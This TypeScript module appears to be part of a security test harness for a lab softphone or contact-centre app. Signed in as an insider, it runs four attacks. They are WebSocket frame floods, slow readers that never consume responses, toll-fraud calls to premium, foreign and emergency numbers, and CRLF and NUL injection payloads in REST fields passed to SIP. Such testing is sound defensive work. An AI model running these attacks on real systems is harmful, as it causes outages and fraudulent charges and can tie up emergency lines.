// Attacks by somebody who may sign in: frames without end on the softphone's WebSocket, readers that do not read, calls to numbers that cost
// money, and CR LF in what REST passes on to SIP.

import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { WebSocket } from 'ws';
import type { Attack, RunningAttack, Targets } from './attack.ts';

interface Session {
  headers: Record<string, string>;
  cookie: string;
}

export async function signIn({ url, insider }: Targets): Promise<Session> {
  const origin = new URL(url).origin;
  const response = await fetch(new URL('/api/v1/session', url), {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin },
    body: JSON.stringify(insider),
  });
  if (response.status !== 200)
    throw new Error(`the insider cannot sign in: ${response.status} ${await response.text()}`);
  const cookie = response.headers.get('set-cookie')?.split(';')[0] ?? '';
  const { csrfToken } = (await response.json()) as { csrfToken: string };
  return { cookie, headers: { cookie, origin, 'x-csrf-token': csrfToken, 'content-type': 'application/json' } };
}

async function openPhone({ url }: Targets, { cookie, headers }: Session): Promise<WebSocket> {
  const asked = { method: 'POST', headers, body: '{"takeOver":true}' };
  const answer = await fetch(new URL('/api/v1/desk/softphone/ticket', url), asked);
  const { ticket = '' } = (await answer.json()) as { ticket?: string };
  const socket = new WebSocket(`${url.replace('http', 'ws').replace(/\/$/, '')}/sip?ticket=${ticket}`, 'sip', {
    headers: { cookie },
    origin: new URL(url).origin,
    perMessageDeflate: false,
  });
  socket.on('error', () => undefined);
  return socket;
}

async function frames(targets: Targets): Promise<RunningAttack> {
  const session = await signIn(targets);
  let [sent, answered, gotIn, closed] = [0, 0, 0, 0];
  let socket: WebSocket | undefined;
  let opening = false;
  return {
    once() {
      if (!socket || socket.readyState > WebSocket.OPEN) {
        if (socket) closed++;
        socket = undefined;
        if (opening) return;
        opening = true;
        openPhone(targets, session)
          .then((opened) => {
            socket = opened.on('message', (data) => {
              answered++;
              if (/^SIP\/2\.0 2/.test(String(data))) gotIn++;
            });
          })
          .catch(() => undefined)
          .finally(() => {
            opening = false;
          });
      }
      if (socket?.readyState !== WebSocket.OPEN) return;
      sent++;
      const what = sent % 4;
      if (what === 0) socket.send(randomBytes(60_000));
      else if (what === 1) socket.send('x'.repeat(70_000));
      else if (what === 2) socket.send('INVITE sip:x SIP/2.0\r\n', { fin: false });
      else socket.ping(randomBytes(100));
    },
    stop() {
      socket?.terminate();
      return { sent, answered, gotIn, note: `cut off ${closed} times` };
    },
  };
}

async function slowReaders(targets: Targets): Promise<RunningAttack> {
  const session = await signIn(targets);
  const { hostname, port } = new URL(targets.url);
  const open: Socket[] = [];
  let sent = 0;
  return {
    once() {
      sent++;
      const socket = connect({ host: hostname, port: Number(port) });
      socket.on('error', () => undefined);
      socket.pause();
      open.push(socket);
      const path = sent % 2 === 0 ? '/api/v1/feed' : '/api/v1/openapi.json';
      // Asks again and again, and reads nothing.
      const ask = `GET ${path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nCookie: ${session.cookie}\r\n\r\n`;
      socket.write(sent % 2 === 0 ? ask : ask.repeat(20));
      if (open.length > 300) open.shift()!.destroy();
    },
    stop() {
      for (const socket of open) socket.destroy();
      return { sent, answered: 0, gotIn: 0 };
    },
  };
}

const costly = [
  '0990123456',
  '+8821612345',
  '010819012345678',
  '00390123456',
  '0570000123',
  '+19005551234',
  '110',
  '0180123456',
];

/** Asks by REST in turn, with the insider's session. What is accepted got in; what a carrier was really asked the lab sees itself. */
async function askByRest(
  targets: Targets,
  ask: (count: number) => [method: string, path: string, body: unknown],
): Promise<RunningAttack> {
  const { headers } = await signIn(targets);
  const statuses: Record<string, number> = {};
  let [sent, answered, gotIn] = [0, 0, 0];
  const pending = new Set<Promise<unknown>>();
  return {
    once() {
      const [method, path, body] = ask(sent++);
      const one = fetch(new URL(path, targets.url), { method, headers, body: JSON.stringify(body) })
        .then(async (response) => {
          answered++;
          statuses[response.status] = (statuses[response.status] ?? 0) + 1;
          if (response.status < 300) gotIn++;
          await response.arrayBuffer();
        })
        .catch(() => undefined);
      pending.add(one);
      void one.finally(() => pending.delete(one));
    },
    async stop() {
      await Promise.all(pending);
      const note = Object.entries(statuses).map(([status, count]) => `${status}: ${count}`);
      return { sent, answered, gotIn, note: note.join(', ') };
    },
  };
}

const tollFraud = (targets: Targets): Promise<RunningAttack> =>
  askByRest(targets, (count) => {
    const number = costly[count % costly.length]!;
    const asks: [string, string, unknown][] = [
      ['POST', '/api/v1/calls', { to: { number } }],
      ['POST', '/api/v1/calls', { to: { number: `${number};ext=1` } }],
      ['POST', '/api/v1/calls', { to: { number: `0312345678@evil.example` } }],
      ['POST', '/api/v1/calls', { to: { number: `184${number}` } }],
      ['POST', '/api/v1/calls/c_nobody/commands/transfer', { number }],
    ];
    return asks[count % asks.length]!;
  });

const evil = ['\r\nX-Evil: 1', '\nX-Evil: 1', '\0', '%0d%0aX-Evil:1', '\u2028X-Evil: 1', '"><sip:evil@x>'];

const restInjection = (targets: Targets): Promise<RunningAttack> =>
  askByRest(targets, (count) => {
    const bad = evil[count % evil.length]!;
    const asks: [string, string, unknown][] = [
      ['POST', '/api/v1/calls', { to: { number: `0312345678${bad}` } }],
      ['POST', '/api/v1/calls', { to: { alias: `A-1${bad}` } }],
      ['PUT', '/api/v1/desk/state', { state: `available${bad}` }],
      ['POST', '/api/v1/calls/c_1/commands/digits', { digits: `1${bad}` }],
    ];
    return asks[count % asks.length]!;
  });

export const insiderAttacks: Attack[] = [
  {
    name: 'websocket-frames',
    sends: 'an agent’s session: frames of 60 and 70 kB, pieces without end, pings, on /sip',
    perSecond: 300,
    start: frames,
  },
  {
    name: 'slow-readers',
    sends: 'an agent’s session: feeds and answers that nobody reads',
    perSecond: 20,
    start: slowReaders,
  },
  {
    name: 'toll-fraud-api',
    sends: 'an agent’s session: calls and transfers to premium, satellite, foreign and emergency numbers',
    perSecond: 5,
    start: tollFraud,
  },
  {
    name: 'rest-injection',
    sends: 'an agent’s session: CR, LF and NUL in REST fields that reach SIP',
    perSecond: 5,
    start: restInjection,
  },
];
